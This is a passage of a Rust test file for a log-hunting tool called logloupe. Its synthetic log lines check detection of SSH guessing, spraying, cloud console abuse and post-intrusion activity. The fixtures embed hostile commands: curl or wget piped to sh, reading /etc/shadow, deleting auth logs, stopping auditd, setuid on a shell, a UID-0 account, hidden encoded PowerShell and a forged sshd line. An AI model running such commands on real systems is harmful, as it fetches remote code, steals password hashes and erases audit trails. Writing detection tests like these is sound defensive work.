//! What a hunt finds in real logs of logins, against counts that are made in another way, and in logs made for each kind.

mod common;

use std::collections::{BTreeMap, BTreeSet};

use logloupe::config::{HuntSettings, OwnRule};
use logloupe::format::{Sample, by_name, named};
use logloupe::input::BEYOND;
use logloupe::rule::{Confidence, Finding, Hunt, HuntFile, Hunted, Notes, Scouting};
use proptest::{prop_assert, prop_assert_eq, proptest};

/// Hunts through lines, so many a slice.
fn hunted_in(format: &str, text: &str, settings: &HuntSettings, slice: usize) -> Vec<Finding> {
    let formats = [named(format, &Sample::of(text.as_bytes())).unwrap()];
    let lines: Vec<&str> = text.lines().collect();
    let mut hunt = Hunt::new(settings);
    for lines in lines.chunks(slice) {
        let mut scout = hunt.scout();
        lines.iter().for_each(|line| scout.read(line.as_bytes(), &formats));
        hunt.take(&scout.finish());
    }
    hunt.finish().findings
}

fn hunted(text: &str) -> Vec<Finding> {
    hunted_in("syslog", text, &HuntSettings::default(), 1000)
}

/// The finding of this kind.
fn found<'a>(findings: &'a [Finding], kind: &str) -> Option<&'a Finding> {
    findings.iter().find(|finding| finding.kind == kind)
}

/// A line of auth.log, `seconds` after the first of March at 10:00, of a process of its own.
fn line(seconds: u32, program: &str, message: &str) -> String {
    let (day, hour) = (1 + (36_000 + seconds) / 86_400, (36_000 + seconds) / 3_600 % 24);
    let (minute, second) = (seconds / 60 % 60, seconds % 60);
    format!("Mar {day:2} {hour:02}:{minute:02}:{second:02} web1 {program}[{}]: {message}\n", 1000 + seconds)
}

fn failed(seconds: u32, user: &str, source: &str) -> String {
    line(seconds, "sshd", &format!("Failed password for {user} from {source} port 22 ssh2"))
}

fn accepted(seconds: u32, user: &str, source: &str) -> String {
    line(seconds, "sshd", &format!("Accepted password for {user} from {source} port 22 ssh2"))
}

#[test]
fn ok_guessing_then_a_success() {
    let mut log: String = (0..12).map(|at| failed(at, "ann", "192.0.2.9")).collect();
    log += &accepted(20, "ann", "192.0.2.9");
    let findings = hunted(&log);
    let kinds: Vec<_> = findings.iter().map(|found| (found.kind.as_str(), found.seen.count, found.severity)).collect();
    assert_eq!(kinds, [("success-after-failures", 1, 5), ("guessing", 12, 3)]);
    assert_eq!((findings[0].user.as_str(), findings[0].source.as_str()), ("ann", "192.0.2.9"));
    assert_eq!(findings[0].seen.first_line, 13);
    assert!(findings[0].because.contains("after 12 failures"), "{}", findings[0].because);
    assert_eq!(findings[1].seen.evidence, [1, 2, 3, 11, 12]);
    assert!(findings[1].because.starts_with("12 failed logins from one source, of 1 user;"), "{}", findings[1].because);
    let nobody: String =
        (0..12).map(|at| line(at, "sshd", "Received disconnect from 192.0.2.9: 3: x: Auth fail [preauth]")).collect();
    assert!(hunted(&nobody)[0].because.contains("of users that the log does not name;"));
    assert_eq!(findings[1].technique.as_ref().map(|found| found.id.as_ref()), Some("T1110.001"));
}

/// Who guessed may get in more than once; who mistyped is forgiven with the first success.
#[test]
fn ok_each_success_after_guesses() {
    let mut log: String = (0..12).map(|at| failed(at, "ann", "192.0.2.9")).collect();
    log += &(accepted(20, "ann", "192.0.2.9") + &accepted(30, "svc", "192.0.2.9"));
    log += &(0..4).map(|at| failed(40 + at, "bob", "192.0.2.10")).collect::<String>();
    log += &(accepted(50, "bob", "192.0.2.10") + &accepted(60, "eve", "192.0.2.10"));
    let findings = hunted(&log);
    let mut users: Vec<_> =
        findings.iter().filter(|found| found.kind == "success-after-failures").map(|found| &found.user[..]).collect();
    users.sort_unstable();
    assert_eq!(users, ["ann", "bob", "svc"]);
}

#[test]
fn ok_a_query_in_a_column_of_its_own() {
    let fields = "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip sc-status";
    let row = "2026-11-20 10:00:10 10.0.0.1 GET /a.aspx id=1%20UNION%20SELECT%201,2--&p=7 80 - 192.0.2.9 200";
    let head: Vec<&[u8]> = vec![fields.as_bytes(), row.as_bytes()];
    let found = logloupe::format::detect(&logloupe::format::Sample::of(&head.join(&b'\n'))).chosen;
    let mut hunt = Hunt::new(&HuntSettings::default());
    let mut scout = hunt.scout();
    scout.read(row.as_bytes(), &[found.format]);
    hunt.take(&scout.finish());
    let findings = hunt.finish().findings;
    let told: Vec<_> = findings.iter().map(|found| (found.kind.as_str(), found.source.as_str())).collect();
    assert_eq!(told, [("sql-injection", "192.0.2.9")]);
}

/// A user's name that looks like sshd's words is not believed, by rules of one's own either.
#[test]
fn ok_own_rules_blame_who_it_was() {
    let rules = vec![OwnRule { name: "mine".to_owned(), keyword: "failed".to_owned(), ..OwnRule::default() }];
    let settings = HuntSettings { rules, ..HuntSettings::default() };
    let text = line(1, "sshd", "Failed password for invalid user x from 9.9.9.9 port 22 from 10.0.0.15 port 4000 ssh2");
    let formats = [by_name("syslog").unwrap().clone()];
    let mut hunt = Hunt::with_rules(&settings, Vec::new()).unwrap();
    let mut scout = hunt.scout();
    scout.read(text.as_bytes(), &formats);
    hunt.take(&scout.finish());
    let findings = hunt.finish().findings;
    let mine = found(&findings, "own:mine").unwrap();
    assert_eq!((mine.source.as_str(), mine.user.as_str()), ("10.0.0.15", "x from 9.9.9.9 port 22"));
    assert_eq!(mine.because, "1 line fulfils your own rule \"mine\".");
}

#[test]
fn err_slips_are_no_threat() {
    let slip = failed(0, "ann", "192.0.2.9") + &failed(1, "ann", "192.0.2.9") + &accepted(2, "ann", "192.0.2.9");
    assert_eq!(hunted(&slip), []);
    let long_ago: String = (0..5).map(|at| failed(at, "ann", "192.0.2.9")).collect();
    assert_eq!(hunted(&(long_ago + &accepted(90_000, "ann", "192.0.2.9"))), []);
}

#[test]
fn ok_a_key_after_failures_is_weaker() {
    let log: String = (0..5).map(|at| failed(at, "ann", "192.0.2.9")).collect();
    let log = log + &line(9, "sshd", "Accepted publickey for ann from 192.0.2.9 port 22 ssh2: RSA x");
    let findings = hunted(&log);
    assert_eq!((findings[0].kind.as_str(), findings[0].confidence), ("key-after-failures", Confidence::Low));
}

/// Who guessed, and then comes with a key to where he never was, has put it in or stolen it.
#[test]
fn ok_a_key_after_guessing_from_a_new_source_is_grave() {
    let key = |at: u32, source: &str| {
        line(at, "sshd", &format!("Accepted publickey for root from {source} port 22 ssh2: RSA x"))
    };
    let guesses = |source: &str| (20..34).map(|at| failed(at, "root", source)).collect::<String>();
    let told = |log: String| {
        let findings = hunted(&log);
        found(&findings, "key-after-failures").map(|found| (found.severity, found.confidence))
    };
    assert_eq!(told(guesses("192.0.2.9") + &key(60, "192.0.2.9")), Some((4, Confidence::Medium)));
    // From where the user came before, it is a program whose key did not work for a while.
    assert_eq!(told(key(0, "192.0.2.9") + &guesses("192.0.2.9") + &key(60, "192.0.2.9")), Some((2, Confidence::Low)));
    assert_eq!(told(guesses("192.0.2.9") + &key(60, "192.0.2.10")), None);
}

/// A console of a cloud that was guessed at, and what was done there then; others at their work are quiet.
#[test]
fn ok_a_cloud() {
    let event = |at: u32, who: &str, source: &str, name: &str, rest: &str| {
        let service = if name == "ConsoleLogin" { "signin" } else { "iam" };
        format!(
            "{{\"eventVersion\":\"1.08\",\"userIdentity\":{{\"type\":\"IAMUser\",\"userName\":\"{who}\"}},\"eventTime\":\"2024-05-14T10:{:02}:{:02}Z\",\"eventSource\":\"{service}.amazonaws.com\",\"eventName\":\"{name}\",\"awsRegion\":\"us-east-1\",\"sourceIPAddress\":\"{source}\",{rest}}}\n",
            at / 60,
            at % 60
        )
    };
    let console = |at: u32, who: &str, source: &str, outcome: &str, factor: &str| {
        let rest = format!(
            "\"responseElements\":{{\"ConsoleLogin\":\"{outcome}\"}},\"additionalEventData\":{{\"MFAUsed\":\"{factor}\"}}"
        );
        event(at, who, source, "ConsoleLogin", &rest)
    };
    let calm: String = console(0, "ann", "198.51.100.7", "Success", "Yes")
        + &(1..60)
            .map(|at| event(at, "ann", "198.51.100.7", "ListUsers", "\"requestParameters\":null"))
            .collect::<String>();
    assert_eq!(hunted_in("aws-cloudtrail", &calm, &HuntSettings::default(), 1000), []);
    let guesses: String = (60..75).map(|at| console(at, "bob", "192.0.2.9", "Failure", "No")).collect();
    let eve =
        "\"requestParameters\":{\"userName\":\"eve\",\"policyArn\":\"arn:aws:iam::aws:policy/AdministratorAccess\"}";
    let log = calm
        + &guesses
        + &console(80, "bob", "192.0.2.9", "Success", "No")
        + &event(90, "bob", "192.0.2.9", "CreateUser", eve)
        + &event(91, "bob", "192.0.2.9", "AttachUserPolicy", eve)
        + &event(92, "bob", "192.0.2.9", "StopLogging", "\"requestParameters\":{\"name\":\"main\"}");
    let findings = hunted_in("aws-cloudtrail", &log, &HuntSettings::default(), 1000);
    let told: Vec<_> = findings
        .iter()
        .map(|found| {
            (found.kind.as_str(), found.user.as_str(), found.technique.as_ref().map_or("", |one| one.id.as_ref()))
        })
        .collect();
    assert_eq!(
        told,
        [
            ("success-after-failures", "bob", "T1078.004"),
            ("cloud-log-stopped", "bob", "T1562.008"),
            ("rights-given", "eve", "T1098.003"),
            ("guessing", "bob", "T1110.001"),
            ("account-made", "eve", "T1136.003"),
            ("no-second-factor", "bob", "T1078.004"),
        ]
    );
    assert!(findings[2].because.contains("It was bob's doing."), "{}", findings[2].because);
    assert!(findings[0].because.contains("stopped the cloud's log"), "{}", findings[0].because);
}

#[test]
fn ok_jobs_of_cron() {
    let job = |command: &str| line(0, "CRON", &format!("(www-data) CMD ({command})"));
    let findings = hunted(&job("curl -s http://192.0.2.9/x | sh"));
    assert_eq!((findings[0].kind.as_str(), findings[0].user.as_str()), ("suspicious-job", "www-data"));
    assert_eq!(findings[0].technique.as_ref().map(|one| one.id.as_ref()), Some("T1053.003"));
    assert_eq!(hunted(&job("/var/tmp/.x/kworker")).len(), 1);
    for calm in ["run-parts /etc/cron.hourly", "curl -fsS https://example.com/ping", "cd / && php /srv/cron.php"] {
        assert_eq!(hunted(&job(calm)), [], "{calm}");
    }
}

#[test]
fn ok_spraying_and_its_names() {
    let log: String = (0..12).map(|at| failed(at, &format!("u{at}"), "192.0.2.9")).collect();
    let findings = hunted(&log);
    assert_eq!(findings[0].kind, "spraying");
    assert_eq!(findings[0].technique.as_ref().map(|found| found.id.as_ref()), Some("T1110.003"));
    // Many tries for each user are guessing.
    let log: String = (0..48).map(|at| failed(at, &format!("u{}", at % 12), "192.0.2.9")).collect();
    assert_eq!(hunted(&log)[0].kind, "guessing");
    let unknown: String = (0..6).map(|at| failed(at, &format!("invalid user u{at}"), "192.0.2.9")).collect();
    let findings = hunted(&unknown);
    assert_eq!((findings.len(), findings[0].kind.as_str(), findings[0].seen.count), (1, "user-enumeration", 6));
}

/// Three an hour for nine hours are slow; as many within an hour are not, nor are four an hour.
#[test]
fn ok_slow_and_low() {
    let within_a_night: String = (0..27).map(|at| failed(at * 1_210, "ann", "192.0.2.9")).collect();
    assert_eq!(hunted(&within_a_night)[0].kind, "slow-and-low");
    let quicker: String = (0..40).map(|at| failed(at * 900, "ann", "192.0.2.9")).collect();
    assert_eq!(hunted(&quicker)[0].kind, "guessing");
    let slow: String = (0..14).map(|at| failed(at * 7_200, "ann", "192.0.2.9")).collect();
    assert_eq!(hunted(&slow)[0].kind, "slow-and-low");
    let quick: String = (0..12).map(|at| failed(at * 600, "ann", "192.0.2.9")).collect();
    assert_eq!(hunted(&quick)[0].kind, "guessing");
}

#[test]
fn ok_one_user_from_everywhere() {
    let log: String = (0..12).map(|at| failed(at, "ann", &format!("192.0.2.{at}"))).collect();
    let findings = hunted(&(log.clone() + &accepted(60, "ann", "198.51.100.7")));
    let kinds: Vec<_> = findings.iter().map(|found| (found.kind.as_str(), found.user.as_str())).collect();
    assert_eq!(kinds, [("distributed-guessing", "ann"), ("success-after-failures-elsewhere", "ann")]);
    assert_eq!(findings[1].confidence, Confidence::Low);
    // From where the user always comes, it is no news.
    let home =
        accepted(0, "ann", "198.51.100.7") + &log.replace("10:00:0", "10:01:0") + &accepted(200, "ann", "198.51.100.7");
    assert!(found(&hunted(&home), "success-after-failures-elsewhere").is_none());
}

#[test]
fn ok_habits() {
    let habit: String = (0..25).map(|day| accepted(day * 86_400, "ann", "198.51.100.7")).collect();
    let findings = hunted(&(habit.clone() + &accepted(25 * 86_400 + 43_200, "ann", "203.0.113.5")));
    let mut kinds: Vec<_> = findings.iter().map(|found| found.kind.as_str()).collect();
    kinds.sort_unstable();
    assert_eq!(kinds, ["new-source", "off-hours"]);
    assert!(found(&findings, "off-hours").unwrap().because.contains("22:00"), "{:?}", findings);
    // Within the habit, and with too little of it, nothing is said.
    assert_eq!(hunted(&(habit + &accepted(25 * 86_400 + 3_600, "ann", "198.51.100.7"))), []);
    assert_eq!(hunted(&(accepted(0, "ann", "198.51.100.7") + &accepted(43_200, "ann", "203.0.113.5"))), []);
}

/// Who comes from ever other addresses has no usual ones; all that are new to a user are told together.
#[test]
fn ok_new_sources_are_told_once_a_user() {
    let habit: String = (0..60).map(|hour| accepted(hour * 3_600, "ann", "198.51.100.7")).collect();
    let new: String = (1..=5).map(|at| accepted(216_000 + at, "ann", &format!("203.0.113.{at}"))).collect();
    let findings = hunted(&(habit.clone() + &new));
    let new_sources: Vec<_> = findings.iter().filter(|found| found.kind == "new-source").collect();
    assert_eq!(new_sources.len(), 1);
    assert_eq!((new_sources[0].user.as_str(), new_sources[0].source.as_str()), ("ann", ""));
    assert_eq!((new_sources[0].seen.count, new_sources[0].seen.first_line), (5, 61));
    assert!(new_sources[0].because.contains("from 6 sources, 5 of them new"), "{}", new_sources[0].because);
    let one = hunted(&(habit + &accepted(216_000, "ann", "203.0.113.9")));
    assert_eq!(found(&one, "new-source").unwrap().source, "203.0.113.9");
    let roaming: String = (0..300).map(|at| accepted(at * 60, "ann", &format!("192.0.2.{}", at % 97))).collect();
    assert_eq!(hunted(&(roaming + &accepted(20_000, "ann", "203.0.113.9"))), []);
}

/// Mistypes of a user from wherever the user also gets in are no attack.
#[test]
fn err_slips_from_everywhere_are_no_distributed_guessing() {
    let slips: String = (0..40)
        .map(|at| {
            let source = format!("192.0.2.{at}");
            failed(at * 600, "ann", &source) + &accepted(at * 600 + 5, "ann", &source)
        })
        .collect();
    assert_eq!(hunted(&slips), []);
    let foreign: String = (0..12).map(|at| failed(30_000 + at, "ann", &format!("203.0.113.{at}"))).collect();
    let findings = hunted(&(slips + &foreign));
    assert_eq!(found(&findings, "distributed-guessing").unwrap().seen.count, 12);
}

/// A day's logins tell no habit of hours.
#[test]
fn err_no_hours_of_a_day() {
    let day: String = (0..30).map(|at| accepted(at * 600, "ann", "198.51.100.7")).collect();
    assert_eq!(hunted(&(day + &accepted(43_200, "ann", "198.51.100.7"))), []);
}

#[test]
fn ok_a_new_user() {
    let usual: String = (0..120).map(|at| accepted(at * 60, "ann", "198.51.100.7")).collect();
    assert_eq!(hunted(&usual), []);
    let findings = hunted(&(usual + &accepted(8_000, "eve", "198.51.100.7")));
    assert_eq!((findings[0].kind.as_str(), findings[0].user.as_str()), ("new-user", "eve"));
}

#[test]
fn ok_single_events() {
    for (program, message, kind, technique, severity) in [
        ("sshd", "Accepted password for root from 192.0.2.9 port 22 ssh2", "root-by-password", "T1078.001", 3),
        (
            "sudo",
            "ann : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
            "sudo-denied",
            "T1548.003",
            3,
        ),
        (
            "sudo",
            "ann : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
            "sudo-failures",
            "T1548.003",
            3,
        ),
        (
            "sudo",
            "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/rm /var/log/auth.log",
            "log-removed",
            "T1070.002",
            4,
        ),
        (
            "sudo",
            "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/bash -c curl -s http://192.0.2.9/a | bash",
            "fetched-and-run",
            "T1059.004",
            4,
        ),
        (
            "sudo",
            "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/cat /etc/shadow",
            "passwords-read",
            "T1003.008",
            4,
        ),
        (
            "sudo",
            "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd",
            "guard-stopped",
            "T1562.001",
            4,
        ),
        (
            "sudo",
            "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/chmod u+s /bin/dash",
            "owner-lent",
            "T1548.001",
            4,
        ),
        ("useradd", "new user: name=eve, UID=0, GID=0, home=/root", "second-root", "T1136.001", 5),
        ("usermod", "change user 'eve' UID from '1001' to '0'", "second-root", "T1136.001", 5),
        ("usermod", "add \"eve\" to group \"sudo\"", "group-joined", "T1098", 4),
        ("useradd", "new user: name=eve, UID=1001, GID=1001, home=/home/eve", "account-made", "T1136.001", 3),
        ("usermod", "add 'eve' to group 'sudo'", "group-joined", "T1098", 4),
        ("usermod", "add 'eve' to group 'games'", "group-joined", "T1098", 2),
    ] {
        let findings = hunted(&line(0, program, message));
        assert_eq!(findings.len(), 1, "{message}: {findings:?}");
        let found = &findings[0];
        let id = found.technique.as_ref().map(|found| found.id.as_ref());
        assert_eq!((found.kind.as_str(), id, found.severity), (kind, Some(technique), severity), "{message}");
    }
    assert_eq!(hunted(&line(0, "sudo", "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls")), []);
    assert_eq!(
        hunted(&line(
            0,
            "sudo",
            "ann : 1 incorrect password attempt ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"
        )),
        []
    );
}

/// A guessed login, and what was done with it: who did it is named, and the success tells what came after it.
#[test]
fn ok_what_follows_a_break_in() {
    let ran =
        |at: u32, command: &str| line(at, "sudo", &format!("bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}"));
    let mut log: String = (0..5).map(|at| failed(at, "bob", "192.0.2.9")).collect();
    log += &accepted(10, "bob", "192.0.2.9");
    log += &(ran(20, "/bin/cat /etc/shadow") + &ran(25, "/bin/sh -c wget -qO- http://192.0.2.9/a | sh"));
    log += &(ran(30, "/usr/sbin/useradd -o -u 0 eve") + &line(31, "useradd", "new user: name=eve, UID=0, GID=0"));
    log += &(ran(40, "/usr/sbin/usermod -aG sudo eve") + &line(41, "usermod", "add 'eve' to group 'sudo'"));
    log += &ran(50, "/bin/rm -f /var/log/auth.log");
    // Seven hours later it is another matter, and another user's deeds are not his.
    log += &ran(25_300, "/usr/bin/truncate -s 0 /var/log/syslog");
    log += &line(60, "sudo", "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/useradd carl");
    log += &line(61, "useradd", "new user: name=carl, UID=1002, GID=1002");
    let findings = hunted(&log);
    let because = |kind: &str, user: &str| {
        let found = findings.iter().find(|found| found.kind == kind && found.user == user);
        found.unwrap_or_else(|| panic!("{kind} {user}")).because.clone()
    };
    let after = because("success-after-failures", "bob");
    for deed in [
        "ran what was fetched over the net (/bin/sh -c wget",
        "gave the account eve all of root's rights",
        "put eve into the group sudo",
        "took logs away (/bin/rm -f /var/log/auth.log)",
        "read the hashes of all passwords (/bin/cat /etc/shadow)",
        "ran 2 other commands by sudo (/usr/sbin/useradd -o -u 0 eve, ",
    ] {
        assert!(after.contains(deed), "{deed}: {after}");
    }
    assert!(!after.contains("carl") && !after.contains("truncate"), "{after}");
    assert!(because("second-root", "eve").contains("It was bob's command, by sudo."));
    assert!(because("group-joined", "eve").contains("It was bob's command, by sudo."));
    assert!(because("account-made", "carl").contains("It was ann's command, by sudo."));
}

/// Who became root after breaking in is root: what root's programs tell then is the user's doing.
#[test]
fn ok_what_root_does_after_a_break_in() {
    let mut log: String = (0..5).map(|at| failed(at, "bob", "192.0.2.9")).collect();
    log += &accepted(10, "bob", "192.0.2.9");
    let made = |at: u32| line(at, "useradd", "new user: name=eve, UID=1003, GID=1003");
    let became = line(20, "sudo", "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/su -");
    let because = |log: &str| found(&hunted(log), "success-after-failures").unwrap().because.clone();
    assert!(because(&(log.clone() + &became + &made(30))).contains("the user made the account eve"));
    assert!(!because(&(log.clone() + &made(30))).contains("eve"));
    // What su tells itself.
    let su = line(20, "su", "(to root) bob on pts/0");
    assert!(because(&(log + &su + &made(30))).contains("made the account eve"));
}

/// People who share an address mistype, and get in from there.
#[test]
fn ok_a_shared_address_is_less_than_guessing() {
    let users: Vec<String> = (0..8).map(|user| format!("user{user}")).collect();
    let failures: String = users
        .iter()
        .zip(0..)
        .map(|(user, at)| failed(at, user, "198.51.100.7") + &failed(at + 1, user, "198.51.100.7"))
        .collect();
    let inside: String = users.iter().map(|user| accepted(59, user, "198.51.100.7")).collect();
    let of_source = |log: &str| {
        hunted(log).into_iter().find(|finding| finding.source == "198.51.100.7" && finding.seen.count == 16)
    };
    let alone = of_source(&failures).unwrap();
    let shared = of_source(&(failures + &inside)).unwrap();
    assert_eq!((alone.severity, shared.severity), (3, 2));
    assert!(shared.because.contains("Most of them also got in from there (8 users)"), "{}", shared.because);
}

/// On another machine the same name is another user.
#[test]
fn ok_what_follows_elsewhere_is_not_told() {
    let mut log: String = (0..5).map(|at| failed(at, "bob", "192.0.2.9")).collect();
    log += &accepted(10, "bob", "192.0.2.9");
    log += &line(20, "sudo", "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls").replace("web1", "web2");
    let findings = hunted(&log);
    assert!(!found(&findings, "success-after-failures").unwrap().because.contains("Afterwards"));
}

/// Who guesses and hangs up is no scanner beside it.
#[test]
fn ok_closings_after_failures_are_no_probes() {
    let attempt = |at: u32, tried: bool| {
        let said = |message: &str| format!("Mar  1 10:00:{:02} web1 sshd[{}]: {message}\n", at % 60, 5_000 + at);
        let failed = said("Failed password for root from 192.0.2.9 port 22 ssh2");
        let left = said("Received disconnect from 192.0.2.9 port 22:11: Bye Bye [preauth]")
            + &said("Disconnected from authenticating user root 192.0.2.9 port 22 [preauth]");
        if tried { failed + &left } else { left }
    };
    let guesser: String = (0..40).map(|at| attempt(at, true)).collect();
    assert_eq!(hunted(&guesser).iter().map(|found| found.kind.as_str()).collect::<Vec<_>>(), ["guessing"]);
    let scanner: String = (0..25).map(|at| attempt(at, false)).collect();
    let findings = hunted(&scanner);
    assert_eq!((findings[0].kind.as_str(), findings[0].seen.count), ("probing", 25));
}

/// Two files of one log: the year is the first file's and counted on, lines are told in their files.
#[test]
fn ok_files_one_after_the_other() {
    let formats = [by_name("syslog").unwrap().clone()];
    let mut hunt = Hunt::new(&HuntSettings::default());
    let before: String = (0..5).map(|at| failed(at, "ann", "192.0.2.9").replace("Mar  1", "Dec 31")).collect();
    let after = accepted(0, "ann", "192.0.2.9").replace("Mar  1 10", "Jan  1 02");
    // The later file was named first, so that its line is the first of all.
    for (name, first_line, first_ms, text) in
        [("auth.log.1", 2, 1_735_639_200_000, &before), ("auth.log", 1, 1_735_696_800_000, &after)]
    {
        let name = name.to_owned();
        hunt.begin_file(HuntFile { name, first_line, first_ms: Some(first_ms), zone_ms: 0 });
        let mut scout = hunt.scout();
        scout.read_slice(text.as_bytes(), false, text.len(), &formats);
        hunt.take(&scout.finish());
    }
    let hunted = hunt.finish();
    let success = found(&hunted.findings, "success-after-failures").unwrap();
    assert_eq!(hunted.place(success.seen.first_line), (Some("auth.log"), 1));
    // 2025-01-01T02:00:00Z
    assert_eq!((success.seen.first_ms, hunted.is_undated, hunted.lines), (Some(1_735_696_800_000), false, 6));
}

#[test]
fn ok_windows() {
    let event = |id: u32, at: u32, data: &str| {
        format!(
            "{{\"Event\":{{\"System\":{{\"Provider\":{{\"#attributes\":{{\"Name\":\"Microsoft-Windows-Security-Auditing\"}}}},\"EventID\":{id},\"Level\":0,\"TimeCreated\":{{\"#attributes\":{{\"SystemTime\":\"2024-05-01T12:30:{at:02}.5Z\"}}}},\"Channel\":\"Security\",\"Computer\":\"ws1\"}},\"EventData\":{{{data}}}}}}}\n"
        )
    };
    let who = r#""TargetUserName":"ann","LogonType":3,"IpAddress":"192.0.2.9","SubStatus":"0xc000006a""#;
    let log: String = (0..12).map(|at| event(4625, at, who)).collect::<String>() + &event(4624, 20, who);
    let findings = hunted_in("windows-event-json", &log, &HuntSettings::default(), 3);
    let kinds = [("success-after-failures", "192.0.2.9"), ("guessing", "192.0.2.9")];
    assert_eq!(findings.iter().map(|found| (found.kind.as_str(), found.source.as_str())).collect::<Vec<_>>(), kinds);
    // The data may stand in a list.
    let listed = |id: u32, at: u32| {
        let data = r##""Data":[{"@Name":"TargetUserName","#text":"ann"},{"@Name":"IpAddress","#text":"192.0.2.9"},{"@Name":"LogonType","#text":"3"}]"##;
        event(id, at, data)
    };
    let log: String = (0..12).map(|at| listed(4625, at)).collect::<String>() + &listed(4624, 20);
    let findings = hunted_in("windows-event-json", &log, &HuntSettings::default(), 3);
    let listed: Vec<_> = findings.iter().map(|found| (found.kind.as_str(), found.source.as_str())).collect();
    assert_eq!(listed, kinds);
    let cleared = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":1102,"TimeCreated":{"#attributes":{"SystemTime":"2024-05-01T12:31:00Z"}},"Channel":"Security","Computer":"ws1"},"UserData":{"SubjectUserName":"ann"}}}"##;
    let findings = hunted_in("windows-event-json", cleared, &HuntSettings::default(), 3);
    let found = &findings[0];
    assert_eq!((found.kind.as_str(), found.user.as_str(), found.severity), ("log-cleared", "ann", 5));
    assert_eq!(found.technique.as_ref().map(|found| found.id.as_ref()), Some("T1070.001"));
}

/// An attack in the shapes of Winlogbeat, Elastic's schema and NXLog is the one that it is in XML.
#[test]
fn ok_windows_in_every_shape() {
    let winlog = |id: u32, at: u32, data: &str| {
        format!(
            "{{\"@timestamp\": \"2024-05-01T12:30:{at:02}Z\", \"winlog\": {{\"event_id\": {id}, \"channel\": \"Security\", \"provider_name\": \"Microsoft-Windows-Security-Auditing\", \"event_data\": {{{data}}}}}, \"message\": \"x\"}}\n"
        )
    };
    let flat = |id: u32, at: u32, data: &str| {
        format!(
            "{{\"EventTime\": \"2024-05-01 12:30:{at:02}\", \"EventID\": {id}, \"SourceName\": \"Microsoft-Windows-Security-Auditing\", \"Channel\": \"Security\", {data}}}\n"
        )
    };
    let ecs = |id: u32, at: u32, data: &str| {
        winlog(id, at, data).replace(
            "\"message\"",
            &format!("\"event\": {{\"code\": \"{id}\"}}, \"ecs\": {{\"version\": \"8.0\"}}, \"message\""),
        )
    };
    let xml = |id: u32, at: u32, data: &str| {
        let data: String = data
            .split(", ")
            .filter_map(|pair| pair.trim_matches('"').split_once("\": \""))
            .map(|(name, value)| format!("<Data Name='{name}'>{value}</Data>"))
            .collect();
        format!(
            "<Event><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>{id}</EventID><TimeCreated SystemTime='2024-05-01T12:30:{at:02}Z'/><Channel>Security</Channel><Computer>dc</Computer></System><EventData>{data}</EventData></Event>\n"
        )
    };
    let log = |event: &dyn Fn(u32, u32, &str) -> String| {
        let who = r#""TargetUserName": "ann", "LogonType": "3", "IpAddress": "192.0.2.9""#;
        (0..12).map(|at| event(4625, at, who)).collect::<String>()
            + &event(4624, 20, who)
            + &event(4672, 20, r#""SubjectUserName": "ann""#)
            + &event(4720, 21, r#""TargetUserName": "eve", "SubjectUserName": "ann""#)
            + &event(4732, 22, r#""TargetUserName": "Administrators", "MemberName": "eve", "SubjectUserName": "ann""#)
            + &event(
                4688,
                23,
                r#""NewProcessName": "powershell.exe", "CommandLine": "powershell -nop -w hidden -enc ZABpAHIAIABDADoAXABVAHMAZQByAHMA", "SubjectUserName": "ann""#,
            )
            + &event(1102, 24, r#""SubjectUserName": "ann""#)
    };
    let expected = [
        ("success-after-failures", "ann", "192.0.2.9"),
        ("log-cleared", "ann", ""),
        ("group-joined", "eve", ""),
        ("encoded-command", "ann", ""),
        ("guessing", "ann", "192.0.2.9"),
        ("account-made", "eve", ""),
    ];
    for text in [log(&winlog), log(&ecs), log(&flat), log(&xml)] {
        let plan =
            logloupe::analysis::analyse_bytes("w.log", text.as_bytes(), 0, &logloupe::config::Settings::default())
                .unwrap()
                .0;
        let formats = plan.formats_of(0).unwrap().to_vec();
        let mut hunt = Hunt::new(&HuntSettings::default());
        let mut scout = hunt.scout();
        scout.read_slice(text.as_bytes(), false, text.len(), &formats);
        hunt.take(&scout.finish());
        let findings = hunt.finish().findings;
        let told: Vec<_> =
            findings.iter().map(|one| (one.kind.as_str(), one.user.as_str(), one.source.as_str())).collect();
        assert_eq!(told, expected, "{}", formats[0].name);
        let followed = "the user had the privileges of administrators; made the account eve; put eve into the group Administrators; ran an encoded command in PowerShell; cleared the log Security.";
        assert!(findings[0].because.ends_with(followed), "{}", findings[0].because);
        assert!(findings[2].because.ends_with("It was ann's doing."), "{}", findings[2].because);
    }
}

#[test]
fn ok_forged_lines_and_odd_addresses() {
    let forged = line(
        0,
        "sshd",
        "Failed password for invalid user x from 198.51.100.1 port 5 ssh2: y from 192.0.2.9 port 22 ssh2",
    );
    let findings = hunted(&forged);
    assert_eq!((findings[0].kind.as_str(), findings[0].source.as_str()), ("forged-line", "192.0.2.9"));
    // One machine, whatever it is called.
    let spellings = ["192.0.2.9", "::ffff:192.0.2.9", "3221225993", "0xc0000209", "0300.0.02.011"];
    let log: String = (0..10).map(|at| failed(at, "ann", spellings[at as usize % 5])).collect();
    let findings = hunted(&log);
    assert_eq!((findings.len(), findings[0].source.as_str(), findings[0].seen.count), (1, "192.0.2.9", 10));
    let log: String = (0..10).map(|at| failed(at, "ann", &format!("2001:db8::{at}"))).collect();
    assert!(found(&hunted(&log), "guessing").is_none());
    let by_household = HuntSettings { ipv6_prefix: 64, ..HuntSettings::default() };
    let findings = hunted_in("syslog", &log, &by_household, 1000);
